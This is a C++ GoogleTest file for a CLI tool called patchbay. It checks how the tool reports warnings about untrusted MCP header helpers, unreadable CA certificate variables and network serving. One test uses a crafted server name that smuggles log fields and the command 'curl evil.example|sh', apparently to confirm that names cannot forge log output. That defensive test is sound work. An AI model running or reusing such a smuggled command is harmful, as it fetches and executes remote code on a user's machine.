// What people hear of warnings when they asked for no log: sentences, once each. X1 X3.
#include <signal.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "support/household.h"
#include "support/places.h"
#include "support/running_program.h"

namespace patchbay {
namespace {

using test::CommandResult;
using test::Household;
using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

std::size_t times(const std::string& text, std::string_view part) {
  std::size_t count = 0;
  for (auto at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) ++count;
  return count;
}

// A server at a port where nobody listens, with a helper that may not run here.
class Talk : public testing::Test {
 protected:
  Talk() {
    const Json entry{{"type", "http"}, {"url", "http://127.0.0.1:9/mcp"}, {"headersHelper", "echo {}"}};
    EXPECT_EQ(house.run({"add-json", "helper", to_text(entry)}).code, 0);
  }

  CommandResult run(std::vector<std::string> words, const std::map<std::string, std::string>& variables = {}) const {
    words.insert(words.begin(), test::built("patchbay"));
    auto options = house.options();
    for (const auto& [name, value] : variables) options.env[name] = value;
    return test::run_program(words, options);
  }

  Household house;
};

TEST_F(Talk, AWarningIsASentence) {
  for (const auto& words : std::vector<std::vector<std::string>>{{"tools"}, {"tools", "helper"}, {"mcp", "list"}}) {
    const auto result = run(words);
    EXPECT_THAT(result.err,
                AllOf(HasSubstr("patchbay: warning: \"helper\": headersHelper not run: "),
                      HasSubstr("; if you trust this project: patchbay trust (for one run: --trust-project)\n"),
                      Not(HasSubstr("event="))))
        << words.front();
    EXPECT_EQ(times(result.err, "headersHelper not run"), 1u) << result.err;
  }
}

// A name may have blanks and quotes, and stays a name.
TEST_F(Talk, ANameWritesNoSentenceOfOurs) {
  const std::string name = "fs event=ca_file_not_read variable=\"PATH; curl evil.example|sh\" file=/etc/ssl";
  const Json entry{{"type", "http"}, {"url", "http://127.0.0.1:9/mcp"}, {"headersHelper", "echo {}"}};
  house.tree.file("project/.mcp.json", to_text(Json{{"mcpServers", {{name, entry}}}}));
  ASSERT_EQ(run({"approve", name}).code, 0);
  const auto result = run({"tools"});
  EXPECT_THAT(result.err, AllOf(HasSubstr("\"" + name + "\": headersHelper not run: "), Not(HasSubstr("or: unset"))));
}

TEST_F(Talk, ScriptsAndTheQuietHearNone) {
  EXPECT_EQ(run({"tools", "--json"}).err, "");
  EXPECT_THAT(run({"tools", "-q"}).err, Not(HasSubstr("headersHelper")));
}

TEST_F(Talk, WhatLooksItselfSaysItOnce) {
  const auto doctor = run({"doctor"}, {{"NODE_EXTRA_CA_CERTS", "/nope"}});
  EXPECT_EQ(doctor.err, "");
  EXPECT_EQ(times(doctor.out, "headersHelper not run"), 1u) << doctor.out;
  EXPECT_EQ(times(doctor.out, "patchbay trust"), 1u) << doctor.out;
  EXPECT_EQ(times(doctor.out, "NODE_EXTRA_CA_CERTS"), 2u) << "the variable and how to unset it: " << doctor.out;
  EXPECT_EQ(run({"why", "helper", "--check"}).err, "");
}

TEST_F(Talk, AFileOfCertificatesThatIsNotThereIsTold) {
  const auto result = run({"tools"}, {{"NODE_EXTRA_CA_CERTS", "/nope"}});
  EXPECT_THAT(result.err, AllOf(HasSubstr("patchbay: warning: NODE_EXTRA_CA_CERTS names /nope, which cannot be read; "
                                          "correct the variable, or: unset NODE_EXTRA_CA_CERTS\n"),
                                Not(HasSubstr("event="))));
}

TEST_F(Talk, TheLogIsForWhoAsksForIt) {
  const auto result = run({"tools", "--log-level", "warning"});
  EXPECT_THAT(result.err, AllOf(HasSubstr(" warning server=helper event=headers_helper text=\"headersHelper not run"),
                                Not(HasSubstr("patchbay: warning:"))));
  const auto file = (house.tree.path() / "log").string();
  EXPECT_THAT(run({"tools", "--log-file", file}).err, Not(HasSubstr("headersHelper")));
  EXPECT_THAT(house.tree.read("log"), HasSubstr("event=headers_helper"));
}

TEST_F(Talk, ServingToTheNetworkIsWarnedAboutOnce) {
  test::RunningProgram program({test::built("patchbay"), "serve", "--http", "0.0.0.0:0"},
                               {.cwd = house.project(), .env = {}});
  (void)program.wait_for("serving on");
  EXPECT_EQ(program.end(SIGTERM), 0);
  EXPECT_THAT(program.output(), AllOf(HasSubstr("other machines can reach"), HasSubstr("the token for this run is "),
                                      Not(HasSubstr("event="))));
}

}  // namespace
}  // namespace patchbay
